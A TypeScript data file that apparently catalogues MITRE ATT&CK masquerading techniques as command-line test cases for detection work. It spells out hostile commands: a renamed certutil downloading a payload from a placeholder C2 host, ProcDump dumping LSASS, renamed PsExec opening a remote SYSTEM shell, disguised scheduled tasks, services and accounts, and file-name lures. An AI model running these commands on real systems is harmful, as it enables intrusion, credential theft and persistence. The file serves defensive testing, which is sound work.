import { t, v } from "../dsl";

/** Defense evasion, continued: masquerading as system binaries, tasks, services, file types and accounts. */
export const defenseEvasionC = [
  t("T1036", "Masquerading", "A payload named like a system binary in the wrong place.", [
    v("svchost-in-appdata", ["{{appdata}}\\svchost.exe -k netsvcs"]),
  ]),
  t("T1036.001", "Invalid code signature", "A payload with a copied Authenticode signature.", [
    v("sigthief", [
      '"C:\\Program Files\\Python311\\python.exe" {{tools}}\\sigthief.py -i C:\\Windows\\System32\\consent.exe -t {{tmp}}\\{{rand}}.exe -o {{tmp}}\\{{name}}.exe',
    ]),
  ]),
  t("T1036.002", "Right-to-left override", "A file name with U+202E run from Downloads.", [
    v("rtlo", [{ cmd: '"{{downloads}}\\Invoice_\u202Efdp.exe" ', parent: "@explorer" }], { shell: "none" }),
  ]),
  t(
    "T1036.003",
    "Rename legitimate utilities",
    "System tools and admin utilities copied under another name before use (Atomic T1036.003, intrusion reports).",
    [
      // Atomic T1036.003 #5: PowerShell run as taskhostw.exe from AppData (the copy keeps PowerShell's PE identity).
      v("renamed-powershell", [
        {
          cmd: "cmd.exe /c copy %windir%\\System32\\windowspowershell\\v1.0\\powershell.exe %APPDATA%\\taskhostw.exe /Y",
          copies: [
            ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "{{appdata}}\\taskhostw.exe"],
          ],
        },
        { cmd: "cmd.exe /K %APPDATA%\\taskhostw.exe", as: "k" },
        { cmd: "{{appdata}}\\taskhostw.exe", parent: "k" },
      ]),
      // Atomic #1: cmd.exe copied to a Temp lsass.exe and started.
      v("renamed-cmd-lsass", [
        {
          cmd: "cmd.exe /c copy %SystemRoot%\\System32\\cmd.exe %SystemRoot%\\Temp\\lsass.exe",
          copies: [["C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\Temp\\lsass.exe"]],
        },
        { cmd: "C:\\Windows\\Temp\\lsass.exe /B /c whoami /all" },
      ]),
      // Renamed certutil as a downloader (seen with ransomware affiliates staging tools).
      v("renamed-certutil", [
        {
          cmd: "cmd.exe /c copy C:\\Windows\\System32\\certutil.exe {{tmp}}\\ctu.exe",
          copies: [["C:\\Windows\\System32\\certutil.exe", "{{tmp}}\\ctu.exe"]],
        },
        {
          cmd: "{{tmp}}\\ctu.exe -urlcache -split -f http://{{c2}}/p.exe {{tmp}}\\p.exe",
          net: [["{{c2}}", 80]],
          files: ["{{tmp}}\\p.exe"],
        },
      ]),
      // Atomic #4: wscript.exe running as svchost.exe from AppData.
      v("renamed-wscript-svchost", [
        {
          cmd: "cmd.exe /c copy %SystemRoot%\\System32\\wscript.exe %APPDATA%\\svchost.exe /Y",
          copies: [["C:\\Windows\\System32\\wscript.exe", "{{appdata}}\\svchost.exe"]],
        },
        { cmd: "cmd.exe /c %APPDATA%\\svchost.exe /B {{appdata}}\\{{rand}}.vbs", as: "c" },
        { cmd: "{{appdata}}\\svchost.exe /B {{appdata}}\\{{rand}}.vbs", parent: "c" },
      ]),
      // PsExec brought in under a service-like name (ransomware operators, e.g. Conti/LockBit playbooks).
      v("renamed-psexec", [
        {
          cmd: "C:\\Windows\\Temp\\svcmgr.exe -accepteula \\\\{{srv}} -s cmd.exe",
          copyOf: "C:\\Tools\\PsExec64.exe",
          reg: [["HKCU\\Software\\Sysinternals\\PsExec", "EulaAccepted", "1", "REG_DWORD"]],
          net: [["@server", 445]],
        },
      ]),
      // ProcDump renamed to dump LSASS (e.g. "dump64.exe" in intrusion reports).
      v(
        "renamed-procdump",
        [
          {
            cmd: "{{tools}}\\dump64.exe -accepteula -ma lsass.exe {{tools}}\\out.dmp",
            copyOf: "C:\\Tools\\procdump64.exe",
            reg: [["HKCU\\Software\\Sysinternals\\ProcDump", "EulaAccepted", "1", "REG_DWORD"]],
            access: ["@lsass", "0x1fffff", "dbghelp.dll", "dbgcore.dll", "dump64.exe"],
            files: ["{{tools}}\\out.dmp"],
          },
        ],
        { elevated: true },
      ),
      // Renamed rundll32 loading a DLL's export.
      v("renamed-rundll32", [
        {
          cmd: "cmd.exe /c copy C:\\Windows\\System32\\rundll32.exe C:\\ProgramData\\{{name}}.exe",
          copies: [["C:\\Windows\\System32\\rundll32.exe", "C:\\ProgramData\\{{name}}.exe"]],
        },
        {
          cmd: "C:\\ProgramData\\{{name}}.exe C:\\ProgramData\\{{rand}}.dll,DllRegisterServer",
          loads: ["C:\\ProgramData\\{{rand}}.dll"],
        },
      ]),
    ],
  ),
  t("T1036.004", "Masquerade task or service", "Tasks and services named like Windows components.", [
    v(
      "schtasks-windows-name",
      [
        'schtasks /create /tn "\\Microsoft\\Windows\\WindowsUpdate\\Scheduled Start" /tr "C:\\ProgramData\\Microsoft\\{{rand}}.exe" /sc daily /st 09:00 /ru SYSTEM /f',
      ],
      { elevated: true },
    ),
    v(
      "sc-windows-name",
      [
        'sc create "WinDefendUpdate" binPath= "C:\\ProgramData\\{{rand}}.exe" DisplayName= "Windows Defender Update Service" start= auto',
      ],
      { elevated: true },
    ),
  ]),
  t(
    "T1036.005",
    "Match legitimate name or location",
    "Payloads named svchost/lsass/explorer in user-writable or lookalike paths.",
    [
      v("svchost-public", ["C:\\Users\\Public\\svchost.exe"]),
      v("lookalike-dir", ['"C:\\Windows \\System32\\{{name}}.exe"']),
      v("programdata-lsass", ["C:\\ProgramData\\Microsoft\\lsass.exe"]),
    ],
  ),
  t("T1036.007", "Double file extension", "A lure named .pdf.exe or .docx.scr opened by the user.", [
    v("pdf-exe", [{ cmd: '"{{downloads}}\\Statement_{{n}}.pdf.exe" ', parent: "@explorer" }], {
      shell: "none",
    }),
    v("doc-scr", [{ cmd: '"{{downloads}}\\Contract.docx.scr" /S', parent: "@explorer" }], { shell: "none" }),
  ]),
  t("T1036.008", "Masquerade file type", "A PE with a .jpg or .txt extension executed.", [
    v("rundll32-jpg", ["rundll32.exe {{tmp}}\\{{rand}}.jpg,DllMain"]),
    v("exe-as-txt", ['cmd.exe /c start "" {{tmp}}\\{{rand}}.txt']),
  ]),
  t("T1036.010", "Masquerade account name", "A local account named like a built-in.", [
    v(
      "net-user",
      [
        {
          cmd: "net user DefaultAccount0 P@ss{{n}}! /add",
          then: [{ id: "a", kind: "account.create", user: "DefaultAccount0", local: true }],
        },
      ],
      { elevated: true },
    ),
  ]),
  t("T1036.012", "Browser fingerprint", "A tool spoofing the browser user agent when calling out.", [
    v("curl-ua", [
      {
        cmd: 'curl.exe -A "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36" https://{{c2}}/j',
        net: [["{{c2}}", 443]],
      },
    ]),
  ]),
];
